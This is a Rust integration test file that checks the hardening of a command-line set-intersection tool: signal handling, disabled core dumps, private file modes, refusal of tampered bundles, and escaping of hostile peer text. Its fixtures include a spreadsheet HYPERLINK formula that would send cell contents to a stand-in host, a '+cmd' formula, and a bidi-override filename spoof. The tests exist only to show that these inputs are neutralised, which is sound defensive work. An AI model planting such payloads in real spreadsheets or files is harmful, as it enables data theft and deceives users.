//! Hardening (issue 10) through the real binary: what a hostile peer's
//! text, a closed stderr or a crash can still do.

mod common;

use std::process::{Child, Command, Stdio};

use common::*;
use cosect::bundle::{seal, Envelope, Opened, Payload};
use cosect::identity::Identity;

/// `init` as `a` for `b`, waiting for its list on standard input, once its
/// interrupt handler is installed (Linux lists caught signals in /proc:
/// bit 14 of SigCgt is SIGTERM). `shell` runs it through `sh -c` first.
fn waiting_init(env: &Env, a: &Party, b: &Party, shell: Option<&str>, stderr: Stdio) -> Child {
    let mut cmd = init_command(env, a, b, "-", &[], "r1");
    if let Some(script) = shell {
        let mut sh = Command::new("sh");
        sh.arg("-c")
            .arg(format!("{script}; exec \"$0\" \"$@\""))
            .arg(cmd.get_program())
            .args(cmd.get_args())
            .current_dir(env.root())
            .envs(
                cmd.get_envs()
                    .filter_map(|(k, v)| v.map(|v| (k.to_owned(), v.to_owned()))),
            );
        cmd = sh;
    }
    let child = cmd.stdin(Stdio::piped()).stderr(stderr).spawn().unwrap();
    for _ in 0..1000 {
        if caught(child.id()) & (1 << 14) != 0 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    child
}

/// The caught-signal mask of a process (0 if unknown).
fn caught(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("SigCgt:").map(|v| v.trim().to_owned()))
        })
        .and_then(|v| u64::from_str_radix(&v, 16).ok())
        .unwrap_or(0)
}

fn signal(child: &Child, sig: &str) {
    let kill = Command::new("kill")
        .args([sig, &child.id().to_string()])
        .status()
        .unwrap();
    assert!(kill.success());
}

/// Wait at most 10 s for the child; None if it is still running.
fn wait_a_while(child: &mut Child) -> Option<std::process::ExitStatus> {
    for _ in 0..1000 {
        if let Some(s) = child.try_wait().unwrap() {
            return Some(s);
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    None
}

/// `cosect … 2>&1 | tee log` after tee died: stderr is a pipe nobody reads.
/// A SIGTERM still ends the command with 130 and leaves no file.
#[test]
fn an_interrupt_with_stderr_a_closed_pipe_still_exits_130() {
    let (env, a, b) = two_parties();
    let mut child = waiting_init(&env, &a, &b, None, Stdio::piped());
    drop(child.stderr.take()); // the reader of stderr is gone
    let stdin = child.stdin.take().unwrap();
    signal(&child, "-TERM");
    let status = wait_a_while(&mut child);
    drop(stdin);
    let status = status.or_else(|| {
        let _ = child.kill();
        child.wait().ok();
        None
    });
    assert_eq!(status.and_then(|s| s.code()), Some(130), "SIGTERM was not obeyed");
    env.assert_absent("r1");
    assert!(sessions(&env, &a).is_empty());
}

/// A running cosect cannot dump core: its core limit is 0 even when the
/// shell allowed cores, and a SIGQUIT leaves no core file.
#[test]
fn a_running_command_cannot_dump_core() {
    let (env, a, b) = two_parties();
    let mut child = waiting_init(&env, &a, &b, Some("ulimit -c unlimited 2>/dev/null"), Stdio::null());
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", child.id())).unwrap();
    let core = limits.lines().find(|l| l.starts_with("Max core file size")).unwrap();
    let fields: Vec<&str> = core.split_whitespace().collect();
    assert_eq!(&fields[4..6], ["0", "0"], "{core}");
    signal(&child, "-QUIT");
    let status = wait_a_while(&mut child).expect("SIGQUIT ends cosect");
    use std::os::unix::process::ExitStatusExt;
    assert!(!status.core_dumped(), "cosect dumped core");
    let cores = env.names_starting("core");
    assert!(cores.is_empty(), "core files: {cores:?}");
}

fn mode_of(env: &Env, name: &str) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(env.path(name)).unwrap().permissions().mode() & 0o777
}

/// Result files are 0600 (they hold the shared entries), and in CSV no
/// field starts a spreadsheet formula.
#[test]
fn results_are_private_and_csv_never_starts_a_formula() {
    let (env, a, b) = two_lists("=1+1\n@SUM(A1)\n-x\nplain\nalone\n", "=1+1\n@SUM(A1)\n-x\nplain\n");
    ok(init(&env, &a, &b, "alice.txt", &["--kind", "raw"], "r1"), "init");
    ok(
        respond(&env, &b, &a, "r1", "bob.txt", &["--kind", "raw"], "r2"),
        "respond",
    );
    let r = ok(
        finish(&env, &a, "r2", &["--reply", "r3", "--format", "csv", "-o", "a.csv"]),
        "finish",
    );
    has(&r.stderr, "you share 4");
    assert_eq!(
        env.read("a.csv"),
        "kind,value,file,line\r\nraw,'=1+1,alice.txt,1\r\nraw,'@SUM(A1),alice.txt,2\r\nraw,'-x,alice.txt,3\r\n\
         raw,plain,alice.txt,4\r\n"
    );
    assert_eq!(mode_of(&env, "a.csv"), 0o600);
    ok(finish(&env, &b, "r3", &["-o", "b.txt"]), "finish");
    assert_eq!(env.read("b.txt"), "=1+1\n@SUM(A1)\n-x\nplain\n");
    assert_eq!(mode_of(&env, "b.txt"), 0o600);
}

/// A publisher's labels are text: a formula gets a `'` in CSV, and bidi
/// overrides, zero-width characters and controls are escaped in every
/// format, like all other peer text.
#[test]
fn catalog_labels_are_escaped_and_never_formulas() {
    let env = Env::with_keys(&[("srv", "srv"), ("carol", "carol")]);
    let labels = "evil.example\t=HYPERLINK(\"http://x.example/?\"&A2,\"click\")\n\
                  bad.example\tgood\u{202e}txt.exe\u{200b}\n\
                  worse.example\t+cmd\n";
    env.write("iocs.txt", labels);
    env.write("carol.txt", "evil.example\nbad.example\nworse.example\n");
    let st = |who: &str| [format!("{who}.id"), format!("st-{who}")];
    let [id, dir] = st("srv");
    env.ok(&argv(&format!(
        "publish -i {id} --state-dir {dir} --input iocs.txt --kind domain --labels -o cat"
    )));
    let [cid, cdir] = st("carol");
    env.ok(&argv(&format!(
        "init -i {cid} --state-dir {cdir} --catalog cat --peer srv.pub --input carol.txt -o q"
    )));
    env.ok(&argv(&format!(
        "respond q -i {id} --state-dir {dir} --peer carol.pub -o ans"
    )));
    let csv = env.ok(&argv(&format!("finish ans -i {cid} --state-dir {cdir} --format csv")));
    assert_eq!(
        csv.stdout,
        "kind,value,file,line,label\r\n\
         domain,evil.example,carol.txt,1,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A2,\"\"click\"\")\"\r\n\
         domain,bad.example,carol.txt,2,good\\u{202e}txt.exe\\u{200b}\r\n\
         domain,worse.example,carol.txt,3,'+cmd\r\n"
    );
    for bad in ['\u{202e}', '\u{200b}'] {
        assert!(!csv.stdout.contains(bad), "{bad:?} printed raw");
    }
}

/// A bundle `bundle` (readable by `reader`) with its payload changed by `f`,
/// signed by `signer` and addressed to `to`, plain.
fn reseal(env: &Env, bundle: &str, reader: &str, signer: &str, to: &str, f: impl FnOnce(&mut Payload)) -> Vec<u8> {
    let id = |who: &str| Identity::parse(&env.read(&format!("{who}.id"))).unwrap();
    let opened = Opened::open(env.bytes(bundle), Some(&id(reader))).unwrap();
    let mut p = opened.payload.clone();
    f(&mut p);
    seal(p, &id(signer), &id(to).public(), Envelope::Plain).to_vec()
}

/// Round 1 and round 2 with a repeated element are refused in every mode:
/// a repeat would let its sender read the shared entries off the result.
#[test]
fn repeated_elements_are_refused_in_every_mode() {
    for mode in ["mutual", "one-sided", "cardinality"] {
        let (env, a, b) = two_lists("a\nb\nc\nd\n", "c\nd\ne\n");
        ok(init(&env, &a, &b, "alice.txt", &["--mode", mode], "r1"), "init");
        env.write(
            "bad1",
            reseal(&env, "r1", "bob", "alice", "bob", |p| {
                let first = p.points[..32].to_vec();
                p.points[96..128].copy_from_slice(&first);
            }),
        );
        let e = respond_refused(
            &env,
            &b,
            &a,
            "bad1",
            "bob.txt",
            &[],
            "round 1: element 3 repeats element 0",
        );
        has(&e, "hint: ");
        ok(respond(&env, &b, &a, "r1", "bob.txt", &[], "r2"), "respond");
        env.write(
            "bad2",
            reseal(&env, "r2", "alice", "bob", "alice", |p| {
                let second = p.points[32..64].to_vec();
                p.points[64..96].copy_from_slice(&second);
            }),
        );
        let args: &[&str] = match mode {
            "one-sided" => &["-o", "out"],
            _ => &["--reply", "r3", "-o", "out"],
        };
        let e = err(finish(&env, &a, "bad2", args), "finish");
        has(&e, "round 2: element 2 repeats element 1");
        env.assert_absent("r3");
        env.assert_absent("out");
        ok(finish(&env, &a, "r2", args), "finish");
    }
}

/// `expires < created` is the signer's word: checked after the signature
/// (a bundle with a bad signature is refused for its signature), and then
/// refused naming both times.
#[test]
fn expires_before_created_is_checked_after_the_signature() {
    let (env, a, b) = round1("a\nb\n", "b\nc\n");
    let odd = reseal(&env, "r1", "bob", "alice", "bob", |p| p.expires = p.created - 1);
    env.write("odd", &odd);
    let e = respond_refused(&env, &b, &a, "odd", "bob.txt", &[], "before it was created");
    has(&e, "it expires (");
    let mut forged = odd;
    *forged.last_mut().unwrap() ^= 1; // in the signature
    env.write("forged", &forged);
    let e = respond_refused(&env, &b, &a, "forged", "bob.txt", &[], "signature does not verify");
    assert!(!e.contains("before it was created"), "{e}");
}

/// A publisher and a client, `srv` and `carol`, state in `st-<who>`.
fn catalog_world() -> Env {
    Env::with_keys(&[("srv", "srv"), ("carol", "carol")])
}

fn as_party(env: &Env, who: &str, line: &str) -> Run {
    env.ok(&argv(&format!("{line} -i {who}.id --state-dir st-{who}")))
}

/// `entry<TAB>` (or TAB and blanks) is no label; a second TAB is an error.
#[test]
fn an_empty_label_is_no_label_and_a_second_tab_is_refused() {
    let env = catalog_world();
    env.write("l.txt", "a.example\t\nb.example\t   \nc.example\tthird\n");
    as_party(&env, "srv", "publish --input l.txt --kind domain --labels -o cat");
    let j = json(env.ok(&["inspect", "cat", "--json"]).stdout);
    assert_eq!(j["catalog"]["labels"], 1, "{j}");
    env.write("bad.txt", "a.example\tone\t\n");
    let e = env.fails(
        &argv("publish -i srv.id --state-dir st-srv --input bad.txt --labels -o cat2"),
        1,
    );
    has(&e, "bad.txt: line 1: the line has a second TAB");
    env.assert_absent("cat2");
}

/// A query that names the current catalog but another key id is refused
/// naming the catalog once and the key id it carries.
#[test]
fn a_query_with_the_current_catalog_but_another_key_names_both() {
    let env = catalog_world();
    env.write("l.txt", "a.example\n");
    as_party(&env, "srv", "publish --input l.txt --kind domain -o cat");
    as_party(&env, "carol", "init --catalog cat --peer srv.pub --input l.txt -o q");
    let odd = reseal(&env, "q", "srv", "carol", "srv", |p| {
        p.catalog.as_mut().unwrap().key_id = vec![0xab; 32].into();
    });
    env.write("odd", &odd);
    let e = env.fails(
        &argv("respond odd -i srv.id --state-dir st-srv --peer carol.pub -o ans"),
        1,
    );
    has(&e, "names your live catalog");
    has(&e, "another catalog key id (abababababababab)");
    env.assert_absent("ans");
}
